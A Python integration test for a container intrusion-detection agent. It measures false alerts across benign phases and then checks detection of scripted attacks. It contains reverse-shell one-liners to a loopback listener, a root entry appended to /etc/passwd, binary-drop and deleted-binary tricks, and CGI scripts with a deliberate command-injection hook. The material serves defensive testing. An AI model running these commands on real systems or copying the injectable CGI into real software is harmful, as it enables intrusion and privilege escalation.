"""Field scenario suite: the conditions users have (issue 9), each counted on its own.

Ten services of nine images, in both kinds of test image: busybox (FROM scratch + static
busybox) and Debian (the host's real dash, bash, coreutils, gzip, sed, grep with their
libraries; busybox only as the web server binary, /usr/sbin/httpd):

- web (busybox, Debian): httpd on the host loopback with a CGI that writes a mktemp file per
  request, appends to an access log, rotates it every ROTATE_LINES lines and prunes old ones;
  its ``debug=`` parameter is an injectable bug (a shell runs what it is given);
- cron (busybox, Debian): a job runner (reports, checksums, pruning); CRASH_AFTER=N makes it
  exit 1 after N runs (the crash-looping replica);
- worker (busybox nc, Debian bash /dev/tcp): sends jobs to the backend, logs failures;
- shipper (busybox, Debian): appends events to a log, ships the newest lines to the backend,
  rotates and gzips;
- backend (busybox ``nc -lk``);
- two idle containers (busybox, Debian) compromised BEFORE the agent starts: one runs a copied
  busybox from /tmp, one a copied sleep deleted after it started.

Conditions, in one agent session, each a phase with its own false-alert count:
  a. the agent joins a running host (containers run PRE s first), learns LEARN s, then steady;
  b. restarts (busybox web, Debian cron);  c. scale-up to a 2nd and 3rd replica (busybox web,
  Debian worker) and back down;  d. replicas with other environment settings;  e. crash-looping
  replicas (restart policy "always");  f. the backend down OUTAGE s, then back;  g. CPU load
  (busy loops on every core outside containers) with a restart under it;  h. kernel.pid_max
  lowered and the pid counter forked through WRAPS times, then new replicas and a restart.
Then attacks, each to be reported with the right kind and reason within 10 s, run in-tree (the
web CGI's injectable parameter) and by ``docker exec``, on both kinds of image; and the
compromises that were running before the agent started ("running before the agent started").

Durations are settings (environment; the defaults fit CI: about 5 minutes):
  DRIFTWARDEN_FIELD_PROFILE   ci (default) | long (learn 180 s, scale 3, outage 60 s, 10 wraps)
  DRIFTWARDEN_FIELD_LEARN     seconds the agent learns (--learn-for)
  DRIFTWARDEN_FIELD_SCALE     multiplies every phase's length (pre-run, steady, settle, load...)
  DRIFTWARDEN_FIELD_OUTAGE    seconds the backend is down
  DRIFTWARDEN_FIELD_WINDOW    the agent's --window (1 s: the forest gets windows to learn)
  DRIFTWARDEN_FIELD_WRAPS     how many times the pid counter wraps in phase h
  DRIFTWARDEN_FIELD_PID_MAX   kernel.pid_max during phase h
  DRIFTWARDEN_FIELD_LOAD_NICE nice value of the CPU load's busy loops (0: compete as equals)

Counting: an alert belongs to the phase its time (the triggering event's) falls in; any alert
about one of this test's containers outside the attacks is false. Rate: false alerts per hour
of monitored benign operation (learning excluded). The summary is printed and written to
field-summary.txt under the test's tmp_path (its path is printed).
"""

from __future__ import annotations

import contextlib
import io
import os
import shutil
import tarfile
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from tests.support.agent_proc import AgentProcess
from tests.support.containers import RunningContainer, run_container
from tests.support.hostload import PidWrapper, cpu_load, lowered_pid_max
from tests.support.images import busybox_image, debian_image, workload_image
from tests.support.scenario import (
    ReverseShellListener,
    Traffic,
    baseline_modes,
    baselines,
    free_port,
    get,
    has_reason,
    image_id,
    inject,
    wait_until,
)

pytestmark = pytest.mark.integration

ALERT_DEADLINE = 10.0  # the "within 10 s"
ATTACK_GAP = 3.0  # > the agent's incident window (2 s): one attack, one incident
TRAFFIC_INTERVAL = 0.5  # s between rounds of requests to every web replica
PID_WRAP_RATE = 1000  # host forks a second in phase h: the containers' forks get a fair share
ENV = "DRIFTWARDEN_FIELD_"


# ---- settings -----------------------------------------------------------------------------------


@dataclass(frozen=True)
class FieldSettings:
    learn: float = 45.0  # --learn-for
    scale: float = 1.0  # phase lengths
    outage: float = 20.0  # backend down
    window: float = 1.0  # --window
    wraps: int = 3  # pid counter wraps in phase h
    pid_max: int = 8192  # kernel.pid_max in phase h
    load_nice: int = 0

    PROFILES = {"ci": {}, "long": {"learn": 180.0, "scale": 3.0, "outage": 60.0, "wraps": 10}}

    @classmethod
    def from_env(cls, env: dict[str, str] | os._Environ = os.environ) -> FieldSettings:
        profile = env.get(ENV + "PROFILE", "ci")
        if profile not in cls.PROFILES:
            raise ValueError(f"{ENV}PROFILE={profile!r}: use one of {sorted(cls.PROFILES)}")
        values: dict[str, Any] = dict(cls.PROFILES[profile])
        for name, kind, low in (("learn", float, 5), ("scale", float, 0.2), ("outage", float, 1),
                                ("window", float, 0.5), ("wraps", int, 1),
                                ("pid_max", int, 1024), ("load_nice", int, 0)):
            text = env.get(ENV + name.upper())
            if text is None:
                continue
            try:
                value = kind(text)
            except ValueError:
                value = None
            if value is None or value < low:
                raise ValueError(f"{ENV}{name.upper()}={text!r}: need a {kind.__name__} >= {low}")
            values[name] = value
        return cls(**values)

    def s(self, seconds: float) -> float:
        """A phase length, scaled."""
        return seconds * self.scale

    def budget(self) -> float:
        """An upper bound of the test's run time (pytest-timeout)."""
        return 480 + self.learn + self.outage + self.s(420) + 3 * self.wraps


SETTINGS = FieldSettings.from_env()


# ---- workloads ----------------------------------------------------------------------------------

WEB_BB_START = """#!/bin/sh
mkdir -p /tmp /var/log/web
exec httpd -f -p "127.0.0.1:$PORT" -h /www
"""
WEB_BB_CGI = r"""#!/bin/sh
log=/var/log/web/access.log
tmp=$(mktemp /tmp/req.XXXXXX)
echo "$QUERY_STRING" > "$tmp"
echo "$(date +%s) $QUERY_STRING" >> $log
if [ "$(wc -l < $log)" -ge "${ROTATE_LINES:-10}" ]; then
    mv $log "$log.$(date +%s)"
    ls -t /var/log/web | tail -n +6 | while read -r f; do rm -f "/var/log/web/$f"; done
fi
case "$QUERY_STRING" in
    debug=*)  # the injectable bug: a debug hook runs what it is given
        q=${QUERY_STRING#debug=}; q=${q//+/ }
        sh -c "$(printf '%b' "${q//%/\\x}")" > /dev/null 2>&1 ;;
esac
echo "Content-Type: text/plain"
echo
cat "$tmp"
rm -f "$tmp"
"""
CRON_LOOP = """#!/bin/sh
mkdir -p /data/reports
n=0
while true; do
    /app/job.sh
    n=$((n + 1))
    if [ -n "$CRASH_AFTER" ] && [ "$n" -ge "$CRASH_AFTER" ]; then
        echo "job runner: giving up after $n runs" >&2
        exit 1
    fi
    sleep "${INTERVAL:-1}"
done
"""
CRON_BB_JOB = """#!/bin/sh
d=/data/reports
date > /data/last-run
echo "report" > "$d/report-$(date +%Y%m%d%H%M%S).txt"
ls -t $d | tail -n +"$((${KEEP:-3} + 1))" | while read -r f; do rm -f "$d/$f"; done
"""
WORKER_BB = """#!/bin/sh
mkdir -p /var/log/worker
while true; do
    if echo "job $(date +%s)" | nc -w1 127.0.0.1 "$BACKEND_PORT" > /dev/null 2>&1; then
        echo "$(date +%s) sent" >> /var/log/worker/worker.log
    else
        echo "$(date +%s) backend down, retrying" >> /var/log/worker/worker.log
    fi
    sleep "${INTERVAL:-0.5}"
done
"""
SHIPPER_BB = """#!/bin/sh
log=/var/log/app/app.log
mkdir -p /var/log/app
n=0
while true; do
    n=$((n + 1))
    echo "$(date +%s) event $n" >> $log
    if [ $((n % 5)) -eq 0 ]; then  # ship the newest lines
        tail -n 5 $log | nc -w1 127.0.0.1 "$BACKEND_PORT" > /dev/null 2>&1
    fi
    if [ $((n % 15)) -eq 0 ]; then  # rotate: app.log -> app.log.1.gz -> app.log.2.gz
        rm -f $log.2.gz
        [ -f $log.1.gz ] && mv $log.1.gz $log.2.gz
        mv $log $log.1 && gzip -f $log.1
    fi
    sleep 0.5
done
"""
IDLE_BB = """#!/bin/sh
while true; do sleep 2; done
"""

WEB_DEB_START = """#!/bin/sh
mkdir -p /var/log/web /var/cache/web
exec /usr/sbin/httpd -f -p "127.0.0.1:$PORT" -h /www
"""
WEB_DEB_CGI = r"""#!/bin/bash
log=/var/log/web/access.log
tmp=$(mktemp /tmp/req.XXXXXX)
printf '%s\n' "$QUERY_STRING" > "$tmp"
printf '%s %s\n' "$(date +%s)" "$QUERY_STRING" >> "$log"
sha256sum "$tmp" | cut -c1-16 > /var/cache/web/last-request
if [ "$(wc -l < "$log")" -ge "${ROTATE_LINES:-10}" ]; then
    mv "$log" "$log.$(date +%s)"
    ls -t /var/log/web | tail -n +6 | while read -r f; do rm -f "/var/log/web/$f"; done
fi
case "$QUERY_STRING" in
    debug=*)  # the injectable bug: a debug hook runs what it is given
        q=${QUERY_STRING#debug=}; q=${q//+/ }
        sh -c "$(printf '%b' "${q//%/\\x}")" > /dev/null 2>&1 ;;
esac
printf 'Content-Type: text/plain\n\n'
cat "$tmp"
rm -f "$tmp"
"""
CRON_DEB_JOB = """#!/bin/sh
d=/data/reports
date -u +%FT%TZ > /data/last-run
tmp=$(mktemp "$d/.report.XXXXXX")
seq 1 50 | sort -rn | head -n 5 > "$tmp"
sha256sum "$tmp" >> /data/checksums
mv "$tmp" "$d/report-$(date +%Y%m%d%H%M%S).txt"
if [ "$(wc -l < /data/checksums)" -gt 20 ]; then
    tail -n 10 /data/checksums > /data/checksums.new && mv /data/checksums.new /data/checksums
fi
ls -t "$d" | tail -n +"$((${KEEP:-3} + 1))" | while read -r f; do rm -f "$d/$f"; done
"""
WORKER_DEB = """#!/bin/bash
mkdir -p /var/log/worker
while true; do
    if exec 3<>"/dev/tcp/127.0.0.1/$BACKEND_PORT"; then
        printf 'job %s\\n' "$(date +%s)" >&3
        timeout 1 head -n 1 <&3 > /dev/null
        exec 3>&-
        echo "$(date +%s) sent" >> /var/log/worker/worker.log
    else
        echo "$(date +%s) backend down, retrying" >> /var/log/worker/worker.log
    fi
    sleep "${INTERVAL:-0.5}"
done 2> /dev/null
"""
SHIPPER_DEB = """#!/bin/bash
log=/var/log/app/app.log
mkdir -p /var/log/app
n=0
while true; do
    n=$((n + 1))
    echo "$(date +%s) event $n" >> "$log"
    if (( n % 5 == 0 )); then  # ship the newest lines
        { tail -n 5 "$log" > "/dev/tcp/127.0.0.1/$BACKEND_PORT"; } 2> /dev/null
    fi
    if (( n % 15 == 0 )); then  # rotate: app.log -> app.log.1.gz -> app.log.2.gz
        rm -f "$log.2.gz"
        [ -f "$log.1.gz" ] && mv "$log.1.gz" "$log.2.gz"
        mv "$log" "$log.1" && gzip -f "$log.1"
    fi
    sleep 0.5
done
"""
IDLE_DEB = """#!/bin/sh
while true; do /bin/sleep 2; done
"""

# compromises made before the agent starts (docker exec -d while nothing watches)
IMPLANT_BB = "cp /bin/busybox /tmp/busybox.implant && exec /tmp/busybox.implant sleep 1000000"
IMPLANT_DEB = "cp /bin/sleep /tmp/.gone; /tmp/.gone 1000000 & sleep 1; rm -f /tmp/.gone"


@dataclass(frozen=True)
class Service:
    name: str  # e.g. "web-bb"; replicas are "<name>-<n>"
    flavour: str  # "busybox" | "debian"
    image: str  # tag
    cmd: tuple[str, ...]
    network: str = "none"
    web: bool = False  # serves /cgi-bin/app on $PORT
    backend: bool = False  # talks to $BACKEND_PORT


def build_services() -> dict[str, Service]:
    deb = debian_image()
    bb = busybox_image()
    x = 0o755

    def app(name: str, files: dict[str, str], base: str | None = None) -> str:
        return workload_image(name, {path: (text, x) for path, text in files.items()}, base=base)

    services = [
        Service("web-bb", "busybox", app("field-web", {
            "/app/start.sh": WEB_BB_START, "/www/cgi-bin/app": WEB_BB_CGI}),
            ("/app/start.sh",), "host", web=True),
        Service("cron-bb", "busybox", app("field-cron", {
            "/app/cron.sh": CRON_LOOP, "/app/job.sh": CRON_BB_JOB}), ("/app/cron.sh",)),
        Service("worker-bb", "busybox", app("field-worker", {"/app/worker.sh": WORKER_BB}),
                ("/app/worker.sh",), "host", backend=True),
        Service("shipper-bb", "busybox", app("field-shipper", {"/app/ship.sh": SHIPPER_BB}),
                ("/app/ship.sh",), "host", backend=True),
        Service("idle-bb", "busybox", app("field-idle", {"/app/idle.sh": IDLE_BB}),
                ("/app/idle.sh",)),
        Service("web-deb", "debian", app("field-web-deb", {
            "/app/start.sh": WEB_DEB_START, "/www/cgi-bin/app": WEB_DEB_CGI}, deb),
            ("/app/start.sh",), "host", web=True),
        Service("cron-deb", "debian", app("field-cron-deb", {
            "/app/cron.sh": CRON_LOOP, "/app/job.sh": CRON_DEB_JOB}, deb), ("/app/cron.sh",)),
        Service("worker-deb", "debian", app("field-worker-deb", {"/app/worker.sh": WORKER_DEB},
                                            deb), ("/app/worker.sh",), "host", backend=True),
        Service("shipper-deb", "debian", app("field-shipper-deb", {"/app/ship.sh": SHIPPER_DEB},
                                             deb), ("/app/ship.sh",), "host", backend=True),
        Service("idle-deb", "debian", app("field-idle-deb", {"/app/idle.sh": IDLE_DEB}, deb),
                ("/app/idle.sh",)),
    ]
    out = {s.name: s for s in services}
    out["backend"] = Service("backend", "busybox", bb, (), "host")
    return out


class Fleet:
    """The test's containers by replica name ("web-bb-1"); every container id ever started is
    remembered (``ids``), so alerts about removed replicas still count as this test's."""

    def __init__(self, stack: contextlib.ExitStack, services: dict[str, Service],
                 traffic: Traffic) -> None:
        self.stack = stack
        self.services = services
        self.traffic = traffic
        self.backend_port = free_port()
        self.replicas: dict[str, RunningContainer] = {}
        self.ports: dict[str, int] = {}
        self.names: dict[str, str] = {}  # container id -> replica name
        self.removed: set[str] = set()

    @property
    def ids(self) -> set[str]:
        return set(self.names)

    def start(self, service: str, replica: int, *, env: dict[str, str] | None = None,
              suffix: str = "", **kw: Any) -> RunningContainer:
        svc = self.services[service]
        name = f"{service}-{replica}{suffix}"
        environment = dict(env or {})
        cmd = list(svc.cmd)
        if svc.web:
            self.ports[name] = free_port()
            environment["PORT"] = str(self.ports[name])
        if svc.backend:
            environment["BACKEND_PORT"] = str(self.backend_port)
        if service == "backend":
            cmd = ["nc", "-ll", "-p", str(self.backend_port), "-e", "/bin/cat"]
        container = self.stack.enter_context(run_container(
            svc.image, cmd, name=f"field-{name}", network=svc.network, environment=environment,
            **kw))
        self.replicas[name] = container
        self.names[container.id] = name
        if svc.web:
            self.wait_web(name)
            self.traffic.ports.append(self.ports[name])
        return container

    def wait_web(self, name: str) -> None:
        port = self.ports[name]
        wait_until(lambda: get(port, "ping") is not None, 30, f"{name} to answer on {port}")

    def restart(self, name: str) -> None:
        self.replicas[name].container.restart(timeout=2)
        if name in self.ports:
            self.wait_web(name)

    def remove(self, name: str) -> None:
        """Scale down: the replica stops and is removed."""
        if name in self.ports:
            with contextlib.suppress(ValueError):
                self.traffic.ports.remove(self.ports[name])
        self.replicas.pop(name).container.remove(force=True)
        self.removed.add(name)

    def service_of(self, container_id: str) -> Service | None:
        name = self.names.get(container_id)
        return self.services.get(name.rsplit("-", 1)[0]) if name else None


def read_text(container: RunningContainer, path: str) -> str:
    """A file of a container (also a stopped one), through Docker's archive API (no exec)."""
    stream, _ = container.container.get_archive(path)
    with tarfile.open(fileobj=io.BytesIO(b"".join(stream))) as tar:
        member = tar.next()
        handle = tar.extractfile(member) if member is not None else None
        return handle.read().decode(errors="replace") if handle is not None else ""


def names_in(container: RunningContainer, directory: str) -> list[str]:
    stream, _ = container.container.get_archive(directory)
    with tarfile.open(fileobj=io.BytesIO(b"".join(stream))) as tar:
        return [m.name for m in tar.getmembers()]


def workloads_working(fleet: Fleet) -> dict[str, bool]:
    """Each service did its periodic work (rotations, reports, jobs sent) by now."""
    made = {"web-bb-1": ("/var/log/web", "access.log."),
            "web-deb-1": ("/var/log/web", "access.log."),
            "shipper-bb-1": ("/var/log/app", "app.log.2.gz"),
            "shipper-deb-1": ("/var/log/app", "app.log.2.gz"),
            "cron-bb-1": ("/data/reports", "report-"), "cron-deb-1": ("/data/reports", "report-")}
    working = {name: any(want in m for m in names_in(fleet.replicas[name], directory))
               for name, (directory, want) in made.items()}
    for name in ("worker-bb-1", "worker-deb-1"):
        working[name] = " sent" in read_text(fleet.replicas[name], "/var/log/worker/worker.log")
    return working


# ---- phases and alerts --------------------------------------------------------------------------


@dataclass
class Phase:
    key: str  # "a", "b", ...
    title: str
    start: float
    end: float = 0.0
    monitored_from: float | None = None  # learning before this is not benign monitored time
    notes: list[str] = field(default_factory=list)

    @property
    def monitored(self) -> float:
        return max(0.0, self.end - max(self.start, self.monitored_from or self.start))


class Ledger:
    def __init__(self) -> None:
        self.phases: list[Phase] = []

    @contextlib.contextmanager
    def phase(self, key: str, title: str) -> Iterator[Phase]:
        current = Phase(key, title, time.time())
        self.phases.append(current)
        try:
            yield current
        finally:
            current.end = time.time()

    def phase_at(self, when: float) -> Phase:
        found = self.phases[0]
        for phase in self.phases:
            if phase.start <= when:
                found = phase
        return found


def alert_time(alert: dict[str, Any]) -> float:
    return float(alert.get("time") or alert.get("first_seen") or 0.0)


def describe(alert: dict[str, Any]) -> str:
    why = "; ".join(f"{r['code']}: {r['text']}" for r in alert["reasons"])
    count = f" x{alert['count']}" if alert.get("count", 1) > 1 else ""
    return f"{alert['kind']}/{alert['severity']}{count}: {why}"


# ---- attacks ------------------------------------------------------------------------------------

Predicate = Callable[[dict[str, Any]], bool]


@dataclass
class Attack:
    track: str  # e.g. "web-bb-1 in-tree"
    name: str
    command: str
    expect: dict[str, Predicate]
    listener: ReverseShellListener | None = None
    started: float = 0.0
    latency: dict[str, float] = field(default_factory=dict)


def attack_plan(flavour: str, tag: str, *, in_tree: bool) -> list[Attack]:
    """The attacks of one track; `tag` makes every path unique to the track."""
    plan: list[Attack] = []

    def add(name: str, command: str, expect: dict[str, Predicate]) -> Attack:
        plan.append(Attack("", name, command, expect))
        return plan[-1]

    if in_tree:
        add("command injection: the CGI starts a shell", "id", {
            "novel lineage CGI -> sh, high": lambda a: a["kind"] == "novel"
            and a["severity"] == "high" and has_reason(
                a, "new-lineage", item=lambda i: "cgi-bin/app" in i and i.endswith(":sh"))})
    dropper = f"/tmp/dropper-{tag}"
    copy = ("cp /bin/busybox {0} && {0} true" if flavour == "busybox"
            else "cp /bin/cat {0} && {0} /etc/passwd > /dev/null").format(dropper)
    add("drop and execute a copied binary", copy, {
        "drift exec-added-binary": lambda a: a["kind"] == "drift"
        and has_reason(a, "exec-added-binary", path=dropper)})
    listener = ReverseShellListener()
    port = listener.port
    add("reverse shell to a loopback listener",
        f"nc 127.0.0.1 {port} -e /bin/sh" if flavour == "busybox"
        else f"bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'", {
            "novel connect to the listener": lambda a: a["kind"] == "novel"
            and has_reason(a, "new-connect", item=lambda i: f"127.0.0.1:{port} " in i)},
        ).listener = listener
    add("append to /etc/passwd", "echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd", {
        "novel write /etc/passwd, high": lambda a: a["kind"] == "novel"
        and a["severity"] == "high"
        and has_reason(a, "new-write", item=lambda i: "/etc/passwd" in i)})
    evil = f"/bin/evil-{tag}"
    add("write into /bin", f"echo evil > {evil}", {
        "drift write-binary-dir": lambda a: a["kind"] == "drift"
        and has_reason(a, "write-binary-dir", path=evil)})
    gone = f"/tmp/gone-{tag}"
    # run a copy, delete it, then exec the deleted file again through /proc/PID/exe (busybox
    # picks its applet from argv[0]: `exec -a sleep`)
    if flavour == "busybox":
        src, start = "/bin/busybox", f"(exec -a sleep {gone} 30)"
        rerun = "(exec -a sleep /proc/$p/exe 2)"
    else:
        src, start, rerun = "/bin/sleep", f"{gone} 30", "/proc/$p/exe 2"
    add("exec of a deleted binary",
        f"cp {src} {gone}; {start} & p=$!; sleep 0.5; rm -f {gone}; {rerun}; kill $p", {
            "drift exec-deleted-binary": lambda a: a["kind"] == "drift"
            and has_reason(a, "exec-deleted-binary", path=gone)})
    return plan


def run_track(agent: AgentProcess, container: RunningContainer, plan: list[Attack],
              run: Callable[[str], object]) -> None:
    """Each attack in turn: run it, wait (at most ALERT_DEADLINE from its start) for every
    expected alert about this container, then leave ATTACK_GAP before the next."""
    cid = container.id
    for attack in plan:
        attack.started = time.time()
        worker = threading.Thread(target=run, args=(attack.command,), daemon=True)
        worker.start()
        deadline = time.monotonic() + ALERT_DEADLINE
        while len(attack.latency) < len(attack.expect) and time.monotonic() < deadline:
            for what, predicate in attack.expect.items():
                if what in attack.latency:
                    continue
                found = [a for a in agent.alerts() if a["container"]["id"] == cid
                         and max(alert_time(a), a.get("last_seen") or 0) >= attack.started - 1
                         and predicate(a)]
                if found:
                    first = min(float(a.get("first_seen") or alert_time(a)) for a in found)
                    attack.latency[what] = max(0.0, first - attack.started)
            time.sleep(0.2)
        worker.join(15)
        if attack.listener is not None:
            attack.listener.close()
        time.sleep(ATTACK_GAP)


def wait_learned(state: Path, images: dict[str, str], timeout: float) -> None:
    """Until every image's baseline is in monitor (polled every 2 s: each poll is a CLI run)."""
    deadline = time.monotonic() + timeout
    modes: dict[str, str] = {}
    while time.monotonic() < deadline:
        modes = baseline_modes(state)
        if all(modes.get(i) == "monitor" for i in images):
            return
        time.sleep(2)
    raise AssertionError(f"baselines not learned after {timeout:.0f} s: "
                         f"{ {tag: modes.get(i) for i, tag in images.items()} }")


# ---- the test -----------------------------------------------------------------------------------


@pytest.mark.timeout(SETTINGS.budget())
def test_field_conditions(kernel_ok, docker_ok, tmp_path, capsys):
    cfg = SETTINGS
    services = build_services()
    state = tmp_path / "state"
    agent = AgentProcess(state, tmp_path / "alerts.jsonl",
                         ["--window", f"{cfg.window:g}", "--learn-for", f"{cfg.learn:g}"])
    ledger = Ledger()
    expected_before: dict[str, tuple[str, Predicate]] = {}
    before_found: dict[str, float] = {}
    tracks: list[tuple[RunningContainer, list[Attack]]] = []
    run_started = time.monotonic()
    with contextlib.ExitStack() as stack:
        traffic = stack.enter_context(Traffic([], interval=TRAFFIC_INTERVAL))
        fleet = Fleet(stack, services, traffic)
        # -- the host before the agent: services running, two of them compromised ----------
        fleet.start("backend", 1)
        for name in services:
            if name != "backend":
                fleet.start(name, 1)
        fleet.replicas["idle-bb-1"].exec(["sh", "-c", IMPLANT_BB], detach=True)
        fleet.replicas["idle-deb-1"].exec(["sh", "-c", IMPLANT_DEB], detach=True)
        expected_before = {
            "busybox: a copied busybox from /tmp": (fleet.replicas["idle-bb-1"].id, lambda a: (
                a["kind"] == "drift" and has_reason(a, "exec-added-binary",
                                                    text="before the agent started",
                                                    path="/tmp/busybox.implant"))),
            "debian: a copied sleep, deleted": (fleet.replicas["idle-deb-1"].id, lambda a: (
                a["kind"] == "drift" and has_reason(a, "exec-deleted-binary",
                                                    text="before the agent started",
                                                    path="/tmp/.gone"))),
        }
        time.sleep(cfg.s(15))
        images = {image_id(s.image): s.image for s in services.values()}

        # -- a: the agent joins, learns, then steady ------------------------------------------
        with ledger.phase("a", "agent started after its containers, learned, then steady") as a:
            stack.enter_context(agent)
            ready = time.time()
            deadline = time.monotonic() + ALERT_DEADLINE
            while len(before_found) < len(expected_before) and time.monotonic() < deadline:
                for what, (cid, predicate) in expected_before.items():
                    hits = [x for x in agent.alerts()
                            if x["container"]["id"] == cid and predicate(x)]
                    if hits and what not in before_found:
                        before_found[what] = time.time() - ready
                time.sleep(0.2)
            wait_learned(state, images, cfg.learn + 90)
            a.monitored_from = time.time()
            working = workloads_working(fleet)
            learned = {b["image"]: b["windows"] for i, b in baselines(state).items()
                       if i in images}
            a.notes.append(f"learned {time.time() - ready:.0f} s; windows per image "
                           f"{min(learned.values())}..{max(learned.values())}")
            time.sleep(cfg.s(15))

        settle = cfg.s(8)
        with ledger.phase("b", "restarts (busybox web, Debian cron)"):
            fleet.restart("web-bb-1")
            fleet.restart("cron-deb-1")
            time.sleep(settle)

        with ledger.phase("c", "scale-up to a 2nd and 3rd replica, then down to 2"):
            for n in (2, 3):
                fleet.start("web-bb", n)
                fleet.start("worker-deb", n)
                time.sleep(cfg.s(4))
            time.sleep(settle)
            fleet.remove("web-bb-3")
            fleet.remove("worker-deb-3")
            time.sleep(cfg.s(3))

        with ledger.phase("d", "replicas with other environment settings"):
            fleet.start("web-bb", 4, suffix="-env", env={"ROTATE_LINES": "4", "TZ": "UTC"})
            fleet.start("cron-deb", 2, suffix="-env",
                        env={"INTERVAL": "0.5", "KEEP": "5", "TZ": "UTC"})
            time.sleep(cfg.s(12))
            fleet.remove("web-bb-4-env")
            fleet.remove("cron-deb-2-env")
            time.sleep(cfg.s(3))

        with ledger.phase("e", "crash-looping replicas (restart policy always)") as e:
            crashing = [fleet.start(s, 9, suffix="-crash", env={"CRASH_AFTER": "2"},
                                    restart_policy={"Name": "always"})
                        for s in ("cron-bb", "cron-deb")]
            time.sleep(cfg.s(25))
            for c in crashing:
                c.container.reload()
                e.notes.append(f"{fleet.names[c.id]} restarted "
                               f"{c.container.attrs['RestartCount']} times")
            restarts = [c.container.attrs["RestartCount"] for c in crashing]
            fleet.remove("cron-bb-9-crash")
            fleet.remove("cron-deb-9-crash")
            time.sleep(cfg.s(3))

        with ledger.phase("f", f"the backend down {cfg.outage:g} s, then back") as f:
            backend = fleet.replicas["backend-1"]
            backend.container.stop(timeout=1)
            time.sleep(cfg.outage)
            backend.container.start()
            time.sleep(cfg.s(10))
            outage_seen = ["backend down" in read_text(fleet.replicas[n],
                                                       "/var/log/worker/worker.log")
                           for n in ("worker-bb-1", "worker-deb-1")]
            f.notes.append(f"workers logged the outage: {outage_seen}")

        with ledger.phase("g", "CPU load: busy loops on every core, a restart under it") as g:
            cores = os.cpu_count() or 2
            with cpu_load(cores, cfg.load_nice):
                time.sleep(cfg.s(10))
                fleet.restart("worker-bb-1")
                time.sleep(cfg.s(15))
            g.notes.append(f"{cores} busy loops at nice {cfg.load_nice}")
            time.sleep(settle)

        with ledger.phase("h", "pid counter wraps during a rollout: new replicas, a restart") as h:
            low = min(cfg.pid_max, int(Path("/proc/sys/kernel/pid_max").read_text()))
            with lowered_pid_max(low) as low, PidWrapper(PID_WRAP_RATE) as wrapper:
                wrapper.wait(1)
                fleet.start("web-deb", 2)
                fleet.start("cron-bb", 2)
                wrapper.wait(2)
                fleet.restart("worker-deb-1")
                wrapper.wait(cfg.wraps)
                h.notes.append(f"pid_max {low}: {wrapper.wraps} wraps, ~{wrapper.pids} pids "
                               f"in {wrapper.seconds:.0f} s")
                wraps = wrapper.wraps
            restored = Path("/proc/sys/kernel/pid_max").read_text().strip()
            h.notes.append(f"pid_max back to {restored}")
            time.sleep(settle)
            fleet.remove("cron-bb-2")
            time.sleep(cfg.s(3))

        # -- attacks: in-tree (the CGI's injectable parameter) and by docker exec -------------
        with ledger.phase("x", "attacks (bystanders: every container not attacked)") as x:
            def by_exec(target: RunningContainer) -> Callable[[str], object]:
                return lambda cmd: target.exec(["sh", "-c", cmd])

            def in_tree(port: int) -> Callable[[str], object]:
                return lambda cmd: inject(port, cmd)

            plans = [("web-bb-1", "busybox", True), ("web-bb-2", "busybox", False),
                     ("web-deb-1", "debian", True), ("worker-deb-2", "debian", False)]
            threads = []
            for replica, flavour, tree in plans:
                target = fleet.replicas[replica]
                plan = attack_plan(flavour, replica, in_tree=tree)
                for attack in plan:
                    attack.track = f"{replica} {'in-tree' if tree else 'docker exec'}"
                run = in_tree(fleet.ports[replica]) if tree else by_exec(target)
                tracks.append((target, plan))
                threads.append(threading.Thread(target=run_track, args=(agent, target, plan, run),
                                                daemon=True))
            for t in threads:
                t.start()
            for t in threads:
                t.join(ALERT_DEADLINE * 10 + 60)
            x.notes.append(f"{traffic.sent} requests served, {traffic.failed} failed")
        all_alerts = agent.alerts()
        ours = fleet.ids
        names = dict(fleet.names)
    run_seconds = time.monotonic() - run_started

    # -- count ----------------------------------------------------------------------------------
    attack_phase = ledger.phases[-1]
    benign = ledger.phases[:-1]
    targets = {t.id for t, _ in tracks}
    implanted = {cid for cid, _ in expected_before.values()}
    # phase -> alert id -> (replica, its latest line): an alert sent again (a repeat count, an
    # incident that grew) is one false alert; every line is counted as a delivery
    false: dict[str, dict[str, tuple[str, dict]]] = {p.key: {} for p in ledger.phases}
    deliveries = dict.fromkeys(false, 0)
    other_containers = 0
    for alert in all_alerts:
        cid = alert["container"]["id"]
        if cid not in ours:
            other_containers += 1
            continue
        when = alert_time(alert)
        if cid in implanted and any(p(alert) for c, p in expected_before.values() if c == cid):
            continue
        phase = ledger.phase_at(when)
        if phase is attack_phase and cid in targets:
            continue  # the attacks' own alerts (checked against their expectations above)
        false[phase.key][alert["id"]] = (names.get(cid, cid[:12]), alert)
        deliveries[phase.key] += 1

    expected = sum(len(a.expect) for _, plan in tracks for a in plan) + len(expected_before)
    detected = sum(len(a.latency) for _, plan in tracks for a in plan) + len(before_found)
    missed = [f"{a.track}: {a.name}: {w}" for _, plan in tracks for a in plan
              for w in a.expect if w not in a.latency]
    missed += [f"before the agent: {w}" for w in expected_before if w not in before_found]
    monitored = sum(p.monitored for p in benign) + attack_phase.monitored
    total_false = sum(len(v) for v in false.values())
    per_hour = total_false / monitored * 3600 if monitored else 0.0

    lines = [f"field scenario suite: {len(names)} containers of "
             f"{len(services)} images (busybox and Debian), the agent joined them running; "
             f"learn {cfg.learn:g} s, window {cfg.window:g} s, scale {cfg.scale:g}; "
             f"run {run_seconds:.0f} s",
             f"  {'condition':<62} {'benign s':>8} {'false':>6} {'(lines)':>7}"]
    for phase in ledger.phases:
        label = f"{phase.key}. {phase.title}"
        lines.append(f"  {label:<62} {phase.monitored:8.0f} {len(false[phase.key]):6d} "
                     f"{deliveries[phase.key]:7d}")
        lines.extend(f"       ({note})" for note in phase.notes)
    lines.append(f"  false alerts: {total_false} in {monitored:.0f} s of monitored benign "
                 f"operation = {per_hour:.0f} per hour ({sum(deliveries.values())} lines)")
    attacks_full = sum(len(a.latency) == len(a.expect) for _, plan in tracks for a in plan)
    attacks_all = sum(len(plan) for _, plan in tracks)
    lines.append(f"  recall: {detected}/{expected} expected alerts ({attacks_full}/{attacks_all} "
                 f"attacks fully detected; {len(before_found)}/{len(expected_before)} "
                 "compromises running before the agent)")
    for what in expected_before:
        seen = before_found.get(what)
        lines.append(f"    before the agent: {what}: "
                     f"{'MISSED' if seen is None else f'{seen:.2f} s after ready'}")
    for _, plan in tracks:
        for attack in plan:
